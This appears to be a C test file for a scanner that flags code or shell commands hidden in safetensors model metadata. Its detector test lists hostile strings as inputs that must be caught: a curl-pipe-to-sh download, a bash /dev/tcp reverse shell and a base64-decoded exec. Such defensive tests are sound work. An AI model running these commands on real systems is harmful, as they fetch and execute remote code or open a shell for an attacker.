// Metadata of safetensors: code and commands are told from honest facts about models.
#include "inspect/text/command_text.h"
#include "inspect_sample.h"

static const sample samples[] = {
    {"good", "m.safetensors", CLEAN, VD_SEVERITY_INFO},
    {"huge-header", "m.safetensors", VD_CHECK_SAFETENSORS_HEADER, VD_SEVERITY_HIGH},
    {"metadata-honest", "m.safetensors", CLEAN, VD_SEVERITY_INFO},
    {"metadata-code", "m.safetensors", VD_CHECK_SAFETENSORS_METADATA, VD_SEVERITY_MEDIUM},
    {"metadata-command", "m.safetensors", VD_CHECK_SAFETENSORS_METADATA, VD_SEVERITY_MEDIUM},
    {"metadata-browser", "m.safetensors", VD_CHECK_SAFETENSORS_METADATA, VD_SEVERITY_LOW},
};

Test(safetensors, samples_are_what_they_are) {
  for (size_t i = 0; i < VD_COUNT(samples); i++)
    expect_sample("safetensors", &samples[i]);
}

Test(safetensors, cut_and_changed_samples_are_survived) {
  torture_sample("safetensors", "metadata-code", "m.safetensors");
}

Test(safetensors, every_failing_allocation_is_survived) {
  starve_sample("safetensors", "metadata-code", "m.safetensors");
}

static bool commands(const char *text) {
  size_t at = 0;
  return vd_command_in(vd_view_of(text), &at) != NULL;
}

Test(safetensors, commands_are_told_from_words_about_them) {
  cr_expect(commands("eval(__import__('os').getcwd())"));
  cr_expect(commands("curl -s http://192.0.2.1/x | sh"));
  cr_expect(commands("exec(base64.b64decode('cHJpbnQoKQ=='))"));
  cr_expect(commands("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"));
  cr_expect(commands("#!/bin/sh\nid"));
  cr_expect(!commands(""));
  cr_expect(!commands("call os.system() with care"));
  cr_expect(!commands("macos.system(1)"));
  cr_expect(!commands("wget https://example.org/model.safetensors"));
  cr_expect(!commands("curl hair | shoulders, https://example.org"));
  cr_expect(!commands("the farm -rf trained with curl http"));
}
